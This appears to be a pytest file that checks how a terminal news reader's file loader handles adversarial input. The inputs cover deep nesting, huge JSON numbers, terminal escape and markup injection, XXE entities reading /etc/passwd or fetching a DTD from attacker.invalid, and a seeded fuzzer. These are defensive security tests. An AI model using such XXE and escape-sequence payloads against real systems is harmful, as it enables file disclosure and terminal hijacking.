"""Generated adversarial inputs beyond the hostile folder: each loads or is skipped with a
one-line reason, and none takes pathological time (the bounds are minutes below what a
quadratic or exponential path would need, not speed targets)."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from tui.ingest import load_file
from tui.model import Article


def load_text(tmp_path: Path, name: str, content: str | bytes) -> tuple[list[Article], list]:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    started = time.perf_counter()
    result = load_file(path)
    assert time.perf_counter() - started < 10, name
    return result


@pytest.mark.parametrize(("name", "content"), [
    ("unclosed-tags.html", "<html><body><p>Start</p>" + "<a" * 50_000),
    ("unclosed-nav-deep.html", "<div>" * 300 + "<nav>" * 20_000 + "<p>words</p>"),
    ("unclosed-comments-deep.html", "<div>" * 300 + "<!--" * 20_000),
    ("entities.html", "<html><body><p>" + "&amp;" * 100_000 + "</p></body></html>"),
    ("many-lines.txt", "Title\n\n" + "Advertisement\n" * 50_000 + "Body line.\n"),
    ("many-pipes.txt", "Title\n\n" + "|" * 200_000 + "\n\nBody line."),
    ("long-name-line.txt", "Title\n\n" + "Ab " * 100_000 + "\n\nBody."),
    ("date-soup.txt", "Title\n\n" + "12 March 2025, " * 20_000 + "\n\nBody."),
    ("caption-soup.txt", "Title\n\n" + "Photo: " * 40_000 + "\n\nBody."),
])
def test_adversarial_markup_and_text_finish(tmp_path: Path, name: str, content: str) -> None:
    articles, skipped = load_text(tmp_path, name, content)
    assert articles or skipped
    for skip in skipped:
        assert "\n" not in skip.reason


def test_deeply_nested_json_is_skipped_with_a_reason(tmp_path: Path) -> None:
    articles, skipped = load_text(tmp_path, "deep.json", "[" * 100_000 + "]" * 100_000)
    assert articles == []
    assert skipped[0].reason == "invalid JSON: nested too deeply"


def test_deeply_nested_jsonl_line_costs_only_that_line(tmp_path: Path) -> None:
    content = '{"title": "Good", "text": "Kept."}\n' + "[" * 100_000 + "]" * 100_000 + "\n"
    articles, skipped = load_text(tmp_path, "deep.jsonl", content)
    assert [a.title for a in articles] == ["Good"]
    assert [s.reason for s in skipped] == ["line 2: JSON nested too deeply"]


def test_huge_integer_literal_is_a_bad_line_not_a_lost_file(tmp_path: Path) -> None:
    content = '{"title": "Good", "text": "Kept."}\n{"n": ' + "9" * 10_000 + "}\n"
    articles, skipped = load_text(tmp_path, "bigint.jsonl", content)
    assert [a.title for a in articles] == ["Good"]
    assert len(skipped) == 1 and skipped[0].reason.startswith("line 2: ")
    _, skipped = load_text(tmp_path, "bigint.json", '{"n": ' + "9" * 10_000 + "}")
    assert skipped[0].reason.startswith("invalid JSON: ")


def test_json_with_lone_surrogates_is_cleaned(tmp_path: Path) -> None:
    [article], _ = load_text(tmp_path, "surrogate.json",
                             '{"title": "Bad \\ud800 title", "text": "Body \\udfff."}')
    assert article.title == "Bad \ufffd title" and article.text == "Body \ufffd."
    article.text.encode("utf-8")  # storable and printable


def test_markup_and_escapes_in_json_fields_are_cleaned_not_interpreted(tmp_path: Path) -> None:
    content = ('{"title": "\\u001b[2J[@click=app.quit]x[/]", "text": "\\u202eevil\\u0007",'
               ' "author": "\\u001b]52;c;aGk=\\u0007Ann", "url": "https://e.invalid/\\u001b[31m"}')
    [article], _ = load_text(tmp_path, "escapes.json", content)
    assert article.title == "[@click=app.quit]x[/]"
    assert article.text == "evil"
    assert article.byline == "Ann"
    assert article.url == "https://e.invalid/"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "pipe.txt"
    os.mkfifo(path)
    assert [s.reason for s in load_file(path)[1]] == ["not a regular file"]


def test_feed_with_doctype_but_no_entities_loads(tmp_path: Path) -> None:
    content = ('<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" '
               '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
               '<rss version="0.91"><channel><title>C</title><item><title>T</title>'
               "<description>Body.</description></item></channel></rss>")
    [article], _ = load_text(tmp_path, "dtd.rss", content)
    assert (article.title, article.text) == ("T", "Body.")


def test_feed_with_parameter_entities_is_refused(tmp_path: Path) -> None:
    content = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ext SYSTEM '
               '"http://attacker.invalid/x.dtd"> %ext;]><rss><channel><item><title>T</title>'
               "</item></channel></rss>")
    articles, skipped = load_text(tmp_path, "param.xml", content)
    assert articles == [] and skipped[0].reason.startswith("refused")


def test_html_with_external_entities_in_doctype_does_not_read_files(tmp_path: Path) -> None:
    content = ('<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body>'
               "<p>Some article text that is long enough to count as a paragraph &x; here.</p>"
               "</body></html>")
    [article], _ = load_text(tmp_path, "xxe.html", content)
    assert "Some article text" in article.text
    assert "root:" not in article.text


FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
FORBIDDEN = ({chr(c) for c in range(0x20) if chr(c) not in "\n\t"} | {"\x7f"}
             | {chr(c) for c in range(0x80, 0xA0)} | set("\u202a\u202b\u202c\u202d\u202e")
             | set("\u2066\u2067\u2068\u2069"))
INSERTS = [b"\x1b[", b"\x1b]52;c;", b"<", b"&", b'"', b"{", b"\n", b"\x00", b"\xe2\x80\xae",
           b"<![CDATA[", b"]]>", b"<!ENTITY x 'y'>", b"\\u", b"\xff\xfe", b"\xc2\x9b"]


def test_mutated_fixtures_never_raise_and_never_carry_controls(tmp_path: Path) -> None:
    """A seeded fuzz over every fixture (bytes flipped, cut, spliced, hostile bits inserted)."""
    import random

    rng = random.Random(20250303)
    seeds = sorted(p for p in FIXTURES.rglob("*") if p.is_file() and p.stat().st_size < 300_000)
    for case in range(300):
        source = seeds[case % len(seeds)]
        data = bytearray(source.read_bytes()) or bytearray(b"x")
        for _ in range(rng.randint(1, 12)):
            position = rng.randrange(len(data) or 1)
            choice = rng.random()
            if choice < 0.4 and data:
                data[position] = rng.randrange(256)
            elif choice < 0.6:
                del data[position:position + rng.randint(1, 40)]
            else:
                data[position:position] = rng.choice(INSERTS)
        path = tmp_path / f"case{case}{source.suffix}"
        path.write_bytes(bytes(data))
        articles, skipped = load_file(path)
        for article in articles:
            for value in (article.title, article.text, article.byline or "", article.source,
                          article.url or ""):
                assert not FORBIDDEN & set(value), (source.name, case)
        for skip in skipped:
            assert skip.reason and "\n" not in skip.reason, (source.name, case)
            # "could not read: <Exception>" is the safety net catching a reader bug.
            assert not skip.reason.startswith("could not read"), (source.name, case, skip)
